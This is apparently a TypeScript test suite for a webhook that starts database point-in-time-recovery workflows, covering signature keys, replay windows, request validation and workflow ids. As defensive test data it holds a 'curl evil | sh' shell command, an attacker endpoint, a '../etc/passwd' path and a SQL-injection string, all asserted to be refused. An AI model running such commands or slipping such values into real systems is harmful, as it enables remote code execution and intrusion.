// The webhook's request handling that needs no server (scripts/lib/webhook-request.ts, webhook-keys.ts,
// delivery-store.ts): which kinds it starts, the signed envelope and its age, the request's shape,
// the keys' scopes, the deliveries remembered across restarts, and the deterministic workflow id.
import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as workflows from '../../workflows/index';
import { PerconaPitrInput } from '../../workflows/schemas';
import {
  DEFAULT_MAX_AGE_MS,
  deriveWorkflowId,
  parseDelivery,
  RUNBOOK_KINDS,
  runbookKind,
  type RunbookKind,
} from '../../scripts/lib/webhook-request';
import { keyAllows, parseKeyFile, signingKey, type WebhookKey } from '../../scripts/lib/webhook-keys';
import { deliveryDigest, DeliveryStore } from '../../scripts/lib/delivery-store';
import { signBody } from '../../scripts/lib/signature';

const percona = runbookKind('perconaPointInTimeRecovery') as RunbookKind;
const NOW = Date.parse('2026-12-07T12:00:00Z');
const request = { cluster: 'shop', target: { type: 'gtid', gtid: '0-1-42' } };
const delivery = (extra: Record<string, unknown> = {}) => ({
  incident: { id: 'INC-42', title: 'orders dropped', urgency: 'high' },
  sentAt: new Date(NOW - 1000).toISOString(),
  request,
  ...extra,
});

describe('kinds', () => {
  test('every top-level workflow the worker registers, and nothing else (children are not started from outside)', () => {
    // restoreDrill is started by its cluster's Temporal Schedule (docs/restore-drills.md), not by a request.
    const registered = Object.keys(workflows).filter(
      (n) => n !== 'vitessShardRestore' && n !== 'restoreDrill',
    );
    assert.deepEqual([...RUNBOOK_KINDS].sort(), registered.sort());
  });

  test('each kind reads its facts through the very schema its workflow uses', () => {
    assert.equal(percona.schema, PerconaPitrInput);
    assert.equal(runbookKind('nope'), undefined);
    assert.equal(runbookKind('__proto__'), undefined);
    assert.equal(runbookKind('constructor'), undefined);
  });
});

describe('parseDelivery', () => {
  test('a valid delivery: the incident, the request as sent, its cluster', () => {
    const r = parseDelivery(percona, delivery(), NOW);
    assert.ok(r.ok);
    assert.equal(r.incidentId, 'INC-42');
    assert.equal(r.incidentTitle, 'orders dropped');
    assert.deepEqual(r.request, request);
    assert.equal(r.cluster, 'shop');
  });

  test('the incident and the signed time are required: no header can name the run', () => {
    const { incident: _i, ...noIncident } = delivery();
    assert.match(
      String((parseDelivery(percona, noIncident, NOW) as { issues: string[] }).issues),
      /incident/,
    );
    const { sentAt: _s, ...noTime } = delivery();
    assert.match(String((parseDelivery(percona, noTime, NOW) as { issues: string[] }).issues), /sentAt/);
    const badTime = parseDelivery(percona, delivery({ sentAt: 'yesterday' }), NOW);
    assert.ok(!badTime.ok);
  });

  test('a delivery older than the maximum age, or from the future, is refused (a captured one cannot be replayed later)', () => {
    const old = parseDelivery(
      percona,
      delivery({ sentAt: new Date(NOW - DEFAULT_MAX_AGE_MS - 1).toISOString() }),
      NOW,
    );
    assert.ok(!old.ok);
    assert.match(old.issues.join(), /sentAt: older than 300 s/);
    const ahead = parseDelivery(percona, delivery({ sentAt: new Date(NOW + 120_000).toISOString() }), NOW);
    assert.ok(!ahead.ok);
    assert.match(ahead.issues.join(), /sentAt: in the future/);
    assert.ok(
      parseDelivery(
        percona,
        delivery({ sentAt: new Date(NOW - DEFAULT_MAX_AGE_MS + 1000).toISOString() }),
        NOW,
      ).ok,
    );
  });

  test('a request that sets argv, paths, endpoints or secrets is refused naming each field; an inline secret is not echoed', () => {
    const hostile = {
      ...request,
      cluster: 'shop',
      start: ['/bin/sh', '-c', 'curl evil | sh'],
      restore: { datadir: '/etc', password: 'hunter2-inline' },
      archive: { kind: 's3', endpoint: 'http://evil.example', accessKeyId: { env: 'AWS_SECRET' } },
    };
    const r = parseDelivery(percona, delivery({ request: hostile }), NOW);
    assert.ok(!r.ok);
    const text = r.issues.join('\n');
    for (const field of ['start', 'restore', 'archive'])
      assert.match(
        text,
        new RegExp(`^request\\.${field}: set by the fleet catalog on the workers, not by a request`, 'm'),
      );
    assert.doesNotMatch(text, /hunter2|evil/);
  });

  test('a request must name a catalog cluster (a name, never an object or a path)', () => {
    for (const cluster of [undefined, { adapter: 'process', name: 'shop' }, '../etc/passwd', ''])
      assert.ok(!parseDelivery(percona, delivery({ request: { ...request, cluster } }), NOW).ok);
  });

  test('unknown envelope fields, and a body that is not an object, are refused', () => {
    assert.ok(!parseDelivery(percona, delivery({ input: request }), NOW).ok);
    for (const body of [null, [], 'x', 42]) assert.ok(!parseDelivery(percona, body, NOW).ok);
  });
});

describe('webhook keys', () => {
  const SECRET = 'a'.repeat(64);
  const key: WebhookKey = {
    id: 'pd',
    secret: SECRET,
    kinds: ['perconaPointInTimeRecovery'],
    clusters: ['shop'],
  };

  test('a key is scoped to kinds and clusters; "*" only when written', () => {
    assert.ok(keyAllows(key, 'perconaPointInTimeRecovery', 'shop'));
    assert.ok(!keyAllows(key, 'perconaPointInTimeRecovery', 'billing'));
    assert.ok(!keyAllows(key, 'perconaRollback', 'shop'));
    assert.ok(keyAllows({ ...key, clusters: ['*'] }, 'perconaPointInTimeRecovery', 'billing'));
  });

  test('the signing key is found among several; a body signed by none has none', () => {
    const other = { ...key, id: 'other', secret: 'b'.repeat(64) };
    const body = Buffer.from('{"x":1}');
    const headers = { 'x-pagerduty-signature': `v1=${signBody(other.secret, body)}` };
    assert.equal(signingKey(body, headers, [key, other])?.id, 'other');
    assert.equal(
      signingKey(body, { 'x-pagerduty-signature': `v1=${signBody('c'.repeat(64), body)}` }, [key, other]),
      undefined,
    );
  });

  test('the key file: scopes required, short secrets and duplicate ids refused, secrets never echoed', () => {
    assert.deepEqual(parseKeyFile(JSON.stringify([key])), [key]);
    const noScope = JSON.stringify([{ id: 'pd', secret: SECRET }]);
    assert.throws(() => parseKeyFile(noScope), /0\.kinds: .*0\.clusters/s);
    assert.throws(
      () => parseKeyFile(JSON.stringify([{ ...key, secret: 'hunter2-short' }])),
      (e: Error) => /0\.secret: at least 32 characters/.test(e.message) && !e.message.includes('hunter2'),
    );
    assert.throws(() => parseKeyFile(JSON.stringify([key, key])), /share the id pd/);
    assert.throws(() => parseKeyFile('[]'), /no keys/);
    assert.throws(() => parseKeyFile(`${SECRET},${SECRET}`), /not valid JSON/);
  });
});

describe('the delivery store', () => {
  test('a delivery is remembered across a restart, until it expires; a torn last line is skipped', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'deliveries-'));
    try {
      const path = join(dir, 'deliveries.jsonl');
      const store = await DeliveryStore.open(path, 60_000);
      const digest = deliveryDigest(Buffer.from('body-1'));
      assert.equal(store.get(digest), undefined);
      await store.remember(digest, 'wf-1');
      await writeFile(path, `${await readFile(path, 'utf8')}{"digest":"torn`);
      const reopened = await DeliveryStore.open(path, 60_000);
      assert.equal(reopened.get(digest), 'wf-1');
      assert.equal(reopened.get(deliveryDigest(Buffer.from('body-2'))), undefined);
      const expired = await DeliveryStore.open(path, -1);
      assert.equal(expired.get(digest), undefined);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('deriveWorkflowId', () => {
  test('the same incident always gives the same id', () => {
    assert.equal(
      deriveWorkflowId('perconaPointInTimeRecovery', 'INC-42'),
      'perconaPointInTimeRecovery-INC-42',
    );
    assert.equal(
      deriveWorkflowId('perconaPointInTimeRecovery', 'INC/42'),
      deriveWorkflowId('perconaPointInTimeRecovery', 'INC/42'),
    );
  });

  test('unsafe characters are replaced, and a hash keeps ids that sanitize alike apart', () => {
    const a = deriveWorkflowId('k', 'INC/42');
    const b = deriveWorkflowId('k', 'INC:42');
    assert.match(a, /^k-INC-42-[0-9a-f]{10}$/);
    assert.notEqual(a, b);
    assert.notEqual(a, deriveWorkflowId('k', 'INC-42'));
    assert.match(deriveWorkflowId('k', '"; DROP TABLE x; --'), /^k-[A-Za-z0-9._-]+$/);
  });

  test('long ids are cut, and stay distinct', () => {
    const a = deriveWorkflowId('k', 'x'.repeat(150));
    const b = deriveWorkflowId('k', 'x'.repeat(151));
    assert.ok(a.length <= 2 + 100 + 11);
    assert.notEqual(a, b);
  });
});
